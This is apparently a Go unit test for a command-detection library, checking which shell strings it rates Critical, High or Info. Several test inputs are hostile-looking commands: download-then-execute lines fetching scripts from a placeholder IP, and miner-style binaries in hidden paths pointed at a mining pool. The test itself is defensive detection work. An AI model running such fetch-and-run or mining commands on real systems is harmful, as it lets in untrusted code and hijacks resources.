package detect_test

import (
	"testing"

	"telltale/detect"
)

func TestFetchedAndRun(t *testing.T) {
	for _, tc := range []struct {
		command string
		want    detect.Level
	}{
		{"cd /root; wget http://203.0.113.66/python.sh; bash python.sh", detect.High},
		{"curl -o x.bin 203.0.113.66/y && ./x.bin", detect.High},
		{"curl -O http://203.0.113.66/a/x && sh x -q", detect.High},
		{"wget https://example.org/install.sh; bash install.sh", detect.Info},
		{"wget http://203.0.113.66/data.csv; python3 report.py", detect.Info},
		{"wget http://203.0.113.66/data.csv; cat data.csv", detect.Info},
		{"curl http://localhost/x.sh -o x.sh; sh x.sh", detect.Info},
		{"/home/j/.cfg/jvmd -o pool.example.com:3333 -u 44", detect.Critical},
		{"/usr/local/bin/sysd -o pool.example.com:443 -u 44", detect.High},
		{"/usr/local/bin/sort-mail -o out.example.com:25", detect.Info},
		{"/usr/bin/ssh -o proxy.example.com:443 host", detect.Info},
		{"curl -o out.example.com:80 x", detect.Info},
		{"mount -o vers=3 nas.example.com:/x /mnt", detect.Info},
		{"sort -o a.b:10 x", detect.Info},
	} {
		if why, l := detect.SuspiciousCommand(tc.command); l != tc.want {
			t.Errorf("%s: %s (%s), want %s", tc.command, l, why, tc.want)
		}
	}
}
